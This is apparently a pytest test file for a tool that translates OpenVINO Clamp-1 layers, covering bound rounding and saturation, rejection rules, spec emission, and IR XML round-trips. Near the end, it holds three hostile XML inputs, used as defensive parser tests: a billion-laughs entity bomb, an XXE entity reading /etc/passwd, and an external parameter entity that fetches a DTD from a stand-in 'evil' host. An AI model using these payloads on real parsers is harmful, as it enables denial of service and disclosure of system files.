"""OpenVINO Clamp-1: resolve() (double attributes, ceil/floor with saturation, rejection), emit(), IR XML."""

from __future__ import annotations

import base64
import math
import struct

import numpy as np
import pytest

from clipbridge.dialects.kit.common import Mode
from clipbridge.dialects.openvino.dtypes import BY_ELEMENT_TYPE, FROM_PRECISION, PRECISION, by_element_type, element_type_name
from clipbridge.dialects.openvino.emit import emit
from clipbridge.dialects.openvino.ir import ir_double, parse_ir
from clipbridge.dialects.openvino.meaning import LATEST_OPSET, normalize, resolve
from clipbridge.core.dtypes import ALL, FLOAT16, FLOAT32, INT8, INT64, UINT8
from clipbridge.core.errors import ArtifactError, RejectedSpec, SpecError
from clipbridge.core.findings import Code, Severity
from clipbridge.core.evaluate import evaluate
from clipbridge.core.meaning import Bound, Meaning, NanBound, NanInput, Order, ScaleBias, State
from clipbridge.core.numbers import parse_number
from clipbridge.dialects.openvino.spec import OpenVinoSpec, OpenVinoTarget
from clipbridge.service.translate import translate

FLT_MAX = float(np.finfo(np.float32).max)


def spec(et: str, mn, mx, version: str = "opset1", shape=None) -> OpenVinoSpec:
    return OpenVinoSpec(dialect="openvino", version=version, element_type=et, min=mn, max=mx, shape=shape)


def same(a, b) -> bool:
    if isinstance(a, float) and isinstance(b, float) and math.isnan(a) and math.isnan(b):
        return True
    return a == b and type(a) is type(b)


# --- resolve: element types and versions -----------------------------------------------------------------------

@pytest.mark.parametrize("dt", [pytest.param(d, id=d.name) for d in ALL])
def test_element_type_names_round_trip(dt):
    assert by_element_type(element_type_name(dt)) is dt and BY_ELEMENT_TYPE[element_type_name(dt)] is dt
    assert FROM_PRECISION[PRECISION[element_type_name(dt)]] == element_type_name(dt)


@pytest.mark.parametrize("et", [pytest.param(et, id=et) for et in BY_ELEMENT_TYPE])
def test_every_numeric_type_is_accepted(et):
    m = resolve(spec(et, 0, 1))
    assert m.dtype is BY_ELEMENT_TYPE[et] and m.version == "Clamp-1" and m.state is State.DEFINED


@pytest.mark.parametrize("version", [pytest.param(v, id=v) for v in ("opset1", "opset13", "opset16", " OPSET5 ")])
def test_every_opset_is_clamp1(version):
    assert resolve(spec("f32", 0, 1, version)).version == "Clamp-1"


@pytest.mark.parametrize("version", [pytest.param(v, id=v) for v in ("opset0", "opset17", "opset", "v1", "1")])
def test_unknown_version(version):
    with pytest.raises(SpecError) as exc:
        resolve(spec("f32", 0, 1, version))
    assert exc.value.loc == "version"


@pytest.mark.parametrize("et", [pytest.param(et, id=et) for et in ("f8", "boolean", "string", "FP32x")])
def test_unknown_element_type(et):
    with pytest.raises(SpecError) as exc:
        resolve(spec(et, 0, 1))
    assert exc.value.loc == "element_type"


# --- resolve: rounding rules ----------------------------------------------------------------------------------

@pytest.mark.parametrize("et, mn, mx, lo, hi, flags", [
    pytest.param("f32", 0.1, 6, float(np.float32(0.1)), 6.0, {"lower.precision_loss": True}, id="f32-plain-cast"),
    pytest.param("f64", 0.1, 6, 0.1, 6.0, {}, id="f64-exact-double"),
    pytest.param("f16", 0.1, 65519, 0.0999755859375, 65504.0, {}, id="f16-nearest"),
    pytest.param("f16", -70000, 70000, -math.inf, math.inf, {"lower.overflow": True, "upper.overflow": True},
                 id="f16-overflow-to-inf"),
    pytest.param("bf16", 0.1, 1, 0.10009765625, 1.0, {}, id="bf16-nearest"),
    pytest.param("f32", "-inf", "inf", -math.inf, math.inf, {}, id="f32-infinite"),
    pytest.param("i8", 1.2, 6.7, 2, 6, {"lower.rounded": True, "upper.rounded": True}, id="i8-ceil-min-floor-max"),
    pytest.param("i8", -1.5, -0.5, -1, -1, {"lower.rounded": True}, id="i8-negative-ceil-floor"),
    pytest.param("i8", -0.5, 0.5, 0, 0, {}, id="i8-around-zero"),
    pytest.param("i32", 2.0, 3.0, 2, 3, {"lower.rounded": False}, id="i32-integral-doubles-not-rounded"),
    pytest.param("u8", -5, 300, 0, 255, {"lower.saturated": True, "upper.saturated": True}, id="u8-saturates"),
    pytest.param("u8", -5.5, 300.5, 0, 255, {"lower.saturated": True, "lower.rounded": True},
                 id="u8-ceil-then-saturate"),
    pytest.param("i8", -128.5, 127.5, -128, 127, {"lower.saturated": False, "upper.saturated": False},
                 id="i8-half-beyond-range-rounds-inside"),
    pytest.param("i8", "-inf", "inf", -128, 127, {"lower.saturated": True, "upper.saturated": True},
                 id="i8-infinite-saturates"),
    pytest.param("u16", 0, 65535.9, 0, 65535, {}, id="u16-floor-max"),
    pytest.param("i16", -40000, -30000.5, -32768, -30001, {"lower.saturated": True}, id="i16-mixed"),
    pytest.param("i64", 2**53 + 1, 2**62, 2**53, 2**62, {"lower.precision_loss": True},
                 id="i64-double-cannot-hold-2^53+1"),
    pytest.param("u64", 0, 2**64 - 1, 0, 2**64 - 1, {"upper.saturated": True, "upper.precision_loss": True},
                 id="u64-max-as-double-is-2^64-saturated"),
    pytest.param("i64", -(2**63), 2**63 - 1, -(2**63), 2**63 - 1, {"upper.saturated": True},
                 id="i64-extremes"),
])
def test_bounds(et, mn, mx, lo, hi, flags):
    m = resolve(spec(et, mn, mx))
    assert m.state is State.DEFINED
    assert same(m.lo, lo), m.lower
    assert same(m.hi, hi), m.upper
    for path, value in flags.items():
        side, flag = path.split(".")
        assert getattr(getattr(m, side), flag) is value, (path, getattr(m, side))


@pytest.mark.parametrize("et, mn, mx, every", [
    pytest.param("i8", 1.2, 1.7, 1, id="i8-ceil-2-floor-1"),
    pytest.param("u8", 300, 400, 255, id="u8-both-saturate-high"),
    pytest.param("i16", 0.1, 0.9, 0, id="i16-inside-one-unit"),
    pytest.param("u16", -3.5, -1.5, 0, id="u16-both-saturate-low"),
])
def test_ceil_min_above_floor_max_gives_max_everywhere(et, mn, mx, every):
    m = resolve(spec(et, mn, mx))
    assert m.state is State.DEFINED and m.order is Order.MAX_WINS
    y = evaluate(m, m.dtype.all_values())
    assert np.all(y == every)
    if m.crossed:
        assert any("constant folding" in n.engine for n in m.engine_notes)


# --- resolve: rejection -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("et, mn, mx", [
    pytest.param("f32", 2, 1, id="f32-min-greater"),
    pytest.param("i8", 5, 1, id="i8-min-greater"),
    pytest.param("i8", 1.7, 1.2, id="i8-min-greater-before-rounding"),
    pytest.param("f32", "nan", 1, id="nan-min"),
    pytest.param("f32", 0, "nan", id="nan-max"),
    pytest.param("f16", "nan", "nan", id="nan-both"),
    pytest.param("i32", "nan", 1, id="nan-on-int"),
    pytest.param("f32", "inf", "-inf", id="inf-crossed"),
])
def test_rejected(et, mn, mx):
    m = resolve(spec(et, mn, mx))
    assert m.state is State.REJECTED
    assert m.reason == "Check 'm_min <= m_max' failed: Attribute 'min' must be less or equal than 'max'"
    assert m.describe().startswith("rejected: ")
    with pytest.raises(RejectedSpec):
        evaluate(m, m.dtype.array([0]))
    with pytest.raises(RejectedSpec) as exc:
        translate(spec(et, mn, mx), ["onnx"])
    assert "openvino refuses to build this clip" in exc.value.message and exc.value.loc == "spec"


@pytest.mark.parametrize("et, v", [pytest.param("f32", 1.5, id="f32"), pytest.param("i8", 3, id="i8"),
                                   pytest.param("f32", "inf", id="inf-inf")])
def test_min_equal_max_is_allowed(et, v):
    m = resolve(spec(et, v, v))
    assert m.state is State.DEFINED and m.lo == m.hi


@pytest.mark.parametrize("et, mn, mx, expected", [
    pytest.param("f32", 0, "9" * 400, math.inf, id="f32-400-digit-int"),
    pytest.param("i64", 0, "9" * 400, 2**63 - 1, id="i64-400-digit-int-saturates"),
    pytest.param("f64", 0, 10**308, 1e308, id="f64-10^308-is-a-finite-double"),
])
def test_huge_integer_attribute(et, mn, mx, expected):
    """Clamp attributes are doubles: a huge integer is the nearest double (inf beyond the range), then the rule."""
    m = resolve(spec(et, mn, mx))
    assert m.hi == expected


def test_nan_and_engine_notes():
    f = resolve(spec("f32", 0, 6))
    assert f.nan_input is NanInput.PROPAGATE and f.nan_bound is NanBound.REJECTED
    assert np.isnan(evaluate(f, FLOAT32.array([math.nan]))).all()
    assert any("NaN input is clamped to min" in n.text for n in f.engine_notes)
    i64 = resolve(spec("i64", 0, 6))
    assert any("32-bit" in n.text for n in i64.engine_notes)
    i8 = resolve(spec("i8", 0, 6)).engine_notes
    assert not any("NaN input" in n.text or "32-bit" in n.text for n in i8)


def test_normalize():
    n = normalize(spec(" I8 ", 0, 6, " OpSet3 "))
    assert n["element_type"] == "i8" and n["version"] == "opset3"


# --- emit ----------------------------------------------------------------------------------------------------

def meaning(dt, lo, hi, order=Order.MAX_WINS, lo_given=None, hi_given=None, **kw) -> Meaning:
    return Meaning("test", "test", dt, Bound(lo, lo if lo_given is None else lo_given),
                   Bound(hi, hi if hi_given is None else hi_given), order=order, **kw)


def wire(e, key):
    return parse_number(e.spec[key])


TGT = OpenVinoTarget(dialect="openvino")


@pytest.mark.parametrize("src, mode, exp_min, exp_max, exp_codes", [
    pytest.param(meaning(INT8, 1, 6, lo_given=1.5, hi_given=6.5), Mode.PRESERVE, 1.0, 6.0, [],
                 id="preserve-int8-effective-values"),
    pytest.param(meaning(INT8, 1, 6, lo_given=1.5, hi_given=6.5), Mode.LITERAL, 1.5, 6.5, [],
                 id="literal-copies-given"),
    pytest.param(meaning(FLOAT16, 0.0999755859375, 1.0, lo_given=0.1), Mode.PRESERVE, 0.0999755859375, 1.0, [],
                 id="preserve-float16-exact-value"),
    pytest.param(meaning(INT8, 5, 1), Mode.PRESERVE, 1.0, 1.0, [(Code.MIN_GREATER_THAN_MAX, Severity.INFO)],
                 id="preserve-max-wins-crossed-becomes-max"),
    pytest.param(meaning(INT8, 5, 1, order=Order.MIN_WINS), Mode.PRESERVE, 5.0, 5.0,
                 [(Code.MIN_GREATER_THAN_MAX, Severity.INFO)], id="preserve-min-wins-crossed-becomes-min"),
    pytest.param(meaning(INT64, 2**53 + 1, 2**60), Mode.PRESERVE, float(2**53), float(2**60),
                 [(Code.BOUND_PRECISION, Severity.ERROR)], id="preserve-int64-beyond-double"),
    pytest.param(meaning(FLOAT32, -math.inf, math.inf), Mode.PRESERVE, -math.inf, math.inf,
                 [(Code.INFINITE_BOUND, Severity.INFO)] * 2, id="preserve-infinite-notes"),
    pytest.param(meaning(UINT8, 0, 255, lo_given=-7, hi_given=1000), Mode.LITERAL, -7, 1000, [],
                 id="literal-out-of-range-saturates-in-target"),
])
def test_emit(src, mode, exp_min, exp_max, exp_codes):
    e = emit(src, TGT, mode, None)
    assert not e.unsupported
    assert same(wire(e, "min"), exp_min) and same(wire(e, "max"), exp_max), e.spec
    assert [(f.code, f.severity) for f in e.notes] == exp_codes
    assert e.spec["version"] == f"opset{LATEST_OPSET}"


@pytest.mark.parametrize("src, mode, code", [
    pytest.param(meaning(INT8, 5, 1), Mode.LITERAL, Code.MIN_GREATER_THAN_MAX, id="literal-crossed"),
    pytest.param(meaning(FLOAT32, math.nan, 1.0), Mode.PRESERVE, Code.NAN_BOUND, id="preserve-nan"),
    pytest.param(meaning(FLOAT32, math.nan, 1.0), Mode.LITERAL, Code.NAN_BOUND, id="literal-nan"),
    pytest.param(meaning(INT8, 0, 6, scale_bias=ScaleBias(0.5, 1.25), state=State.AMBIGUOUS), Mode.PRESERVE,
                 Code.SCALE_BIAS, id="int8-scale-bias"),
])
def test_emit_unsupported(src, mode, code):
    e = emit(src, TGT, mode, None)
    assert e.unsupported
    assert e.notes[-1].code is code and e.notes[-1].severity is Severity.ERROR


def test_emit_named_version():
    e = emit(meaning(INT8, 0, 1), OpenVinoTarget(dialect="openvino", version="opset3"), Mode.PRESERVE, None)
    assert e.spec["version"] == "opset3"


# --- IR XML ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("src, shape", [
    pytest.param(meaning(FLOAT32, -1.5, 6.0), [1, 3, 224, 224], id="f32-static"),
    pytest.param(meaning(FLOAT16, 0.0999755859375, 65504.0), [None, 3], id="f16-dynamic-dim"),
    pytest.param(meaning(FLOAT32, -math.inf, math.inf), [4], id="f32-infinite"),
    pytest.param(meaning(FLOAT32, float(np.float32(0.1)), FLT_MAX), [4], id="f32-17-digits"),
    pytest.param(meaning(INT8, -128, 127), [2, 2], id="i8-extremes"),
    pytest.param(meaning(INT64, -(2**63), 2**62), [2], id="i64"),
    pytest.param(meaning(UINT8, 3, 3), [1], id="u8-equal"),
    pytest.param(meaning(FLOAT32, 0.0, 6.0, scale_bias=ScaleBias(0.5, 1.25)), [4], id="f32-scale-bias"),
])
def test_ir_parses_back_to_the_same_spec(src, shape):
    e = emit(src, TGT, Mode.PRESERVE, shape)
    xml = e.artifacts["ir_xml"]
    back = parse_ir(xml, None).spec
    assert back.element_type == e.spec["element_type"]
    assert same(float(back.min), float(wire(e, "min"))) and same(float(back.max), float(wire(e, "max")))
    assert back.shape == shape
    assert back.version == "opset1"
    r = resolve(back)
    assert same(r.lo, e.meaning.lo) and same(r.hi, e.meaning.hi)
    if src.scale_bias is not None:
        w = base64.b64decode(e.artifacts["ir_bin"])
        assert struct.unpack("<ff", w) == (0.5, 1.25)
        assert 'type="Multiply"' in xml and 'type="Add"' in xml
    else:
        assert "ir_bin" not in e.artifacts


def test_ir_attribute_text():
    e = emit(meaning(FLOAT32, float(np.float32(0.1)), math.inf), TGT, Mode.PRESERVE, [4])
    assert '<data min="0.10000000149011612" max="inf" />' in e.artifacts["ir_xml"]
    assert ir_double(-math.inf) == "-inf" and ir_double(math.nan) == "nan"
    assert ir_double(1 / 3) == "%.17g" % (1 / 3) and float(ir_double(1 / 3)) == 1 / 3


def test_ir_loads_in_openvino():
    ovrt = pytest.importorskip("openvino")
    e = emit(meaning(FLOAT32, -1.0, 6.0), TGT, Mode.PRESERVE, [4])
    model = ovrt.Core().read_model(e.artifacts["ir_xml"].encode(), b"")
    assert any(op.get_type_name() == "Clamp" for op in model.get_ops())


IR = """<?xml version="1.0"?>
<net name="n" version="{version}">
  <layers>
    <layer id="0" name="input" type="Parameter" version="opset1">
      <data shape="2,3" element_type="f16" />
      <output><port id="0" precision="FP16"><dim>2</dim><dim>3</dim></port></output>
    </layer>
    {clamps}
  </layers>
</net>
"""
CLAMP = """<layer id="{id}" name="{name}" type="Clamp" version="opset1">
      <data min="{mn}" max="{mx}" />
      <input><port id="0" precision="{prec}"><dim>2</dim><dim>-1</dim></port></input>
      <output><port id="1" precision="{prec}"><dim>2</dim><dim>-1</dim></port></output>
    </layer>"""


def ir(*clamps, version="11") -> str:
    parts = [CLAMP.format(id=i + 1, name=c.get("name", f"clamp{i}"), mn=c.get("mn", "0"), mx=c.get("mx", "6"),
                          prec=c.get("prec", "FP16")) for i, c in enumerate(clamps)]
    return IR.format(version=version, clamps="\n    ".join(parts))


@pytest.mark.parametrize("xml, layer, et, mn, mx, shape", [
    pytest.param(ir({}), None, "f16", 0.0, 6.0, [2, None], id="single-clamp"),
    pytest.param(ir({"mn": "-inf", "mx": "inf", "prec": "FP32"}), None, "f32", -math.inf, math.inf, [2, None],
                 id="infinite-attrs"),
    pytest.param(ir({"mn": "1.5", "mx": "6.7", "prec": "I8"}), None, "i8", 1.5, 6.7, [2, None], id="i8"),
    pytest.param(ir({"name": "a", "mn": "1"}, {"name": "b", "mn": "2"}), "b", "f16", 2.0, 6.0, [2, None],
                 id="pick-by-name"),
    pytest.param(ir({"name": "a", "mn": "1"}, {"name": "b", "mn": "2"}), 1, "f16", 1.0, 6.0, [2, None],
                 id="pick-by-id"),
    pytest.param(ir({}, version="10"), None, "f16", 0.0, 6.0, [2, None], id="ir-v10"),
])
def test_parse_ir(xml, layer, et, mn, mx, shape):
    p = parse_ir(xml, layer)
    assert (p.spec.element_type, p.spec.min, p.spec.max, p.spec.shape) == (et, mn, mx, shape)


def test_parse_ir_through_translate():
    r = translate(OpenVinoSpec(dialect="openvino", ir_xml=ir({"mn": "1.5", "mx": "6.7", "prec": "I8"})), ["onnx"])
    assert (r.meaning.lo, r.meaning.hi) == (2, 6)
    assert r.translations[0].status == "exact"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<net name="&lol9;" version="11"><layers/></net>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE net [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<net name="n" version="11"><layers>
<layer id="1" name="c" type="Clamp" version="opset1"><data min="&xxe;" max="6"/>
<input><port id="0" precision="FP32"><dim>1</dim></port></input></layer>
</layers></net>
"""
PARAM_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE net [ <!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext; ]>
<net name="n" version="11"><layers/></net>
"""


@pytest.mark.parametrize("xml, fragment", [
    pytest.param(BILLION_LAUGHS, "DTDs and entities are not allowed", id="billion-laughs"),
    pytest.param(XXE, "DTDs and entities are not allowed", id="xxe-file"),
    pytest.param(PARAM_ENTITY, "DTDs and entities are not allowed", id="external-parameter-entity"),
    pytest.param("<net version='11'><layers>", "not well-formed", id="truncated"),
    pytest.param("not xml at all", "not well-formed", id="not-xml"),
    pytest.param("<model version='11'/>", "root must be <net>", id="wrong-root"),
    pytest.param(ir({}, version="7"), "IR version '7' is not supported", id="old-ir-version"),
    pytest.param(IR.format(version="11", clamps=""), "no Clamp layer", id="no-clamp"),
    pytest.param(ir({"mn": "abc"}), "min='abc' is not a number", id="attr-not-a-number"),
    pytest.param(ir({"prec": "FP8"}), "precision 'FP8' is unknown", id="unknown-precision"),
    pytest.param(ir({}).replace('<data min="0" max="6" />', ""), "no <data> element", id="no-data"),
    pytest.param(ir({}).replace('max="6" ', ""), "no max attribute", id="no-max"),
    pytest.param(ir({}).replace("<dim>-1</dim>", "<dim>?</dim>"), "is not an integer", id="bad-dim"),
])
def test_parse_ir_artifact_errors(xml, fragment):
    with pytest.raises(ArtifactError) as exc:
        parse_ir(xml, None)
    assert fragment in exc.value.message
    assert exc.value.loc == "ir_xml"


@pytest.mark.parametrize("layer, fragment", [
    pytest.param(None, "the IR has 2 Clamp layers; name one with 'layer'", id="several-need-layer"),
    pytest.param("zzz", "no Clamp layer with id or name 'zzz'", id="unknown-layer"),
    pytest.param(0, "no Clamp layer with id or name '0'", id="id-of-parameter"),
])
def test_parse_ir_layer_errors(layer, fragment):
    with pytest.raises(SpecError) as exc:
        parse_ir(ir({"name": "a"}, {"name": "b"}), layer)
    assert fragment in exc.value.message and exc.value.loc == "layer"


def test_parse_ir_of_rejected_clamp_resolves_rejected():
    m = resolve(parse_ir(ir({"mn": "7", "mx": "6"}), None))
    assert m.state is State.REJECTED
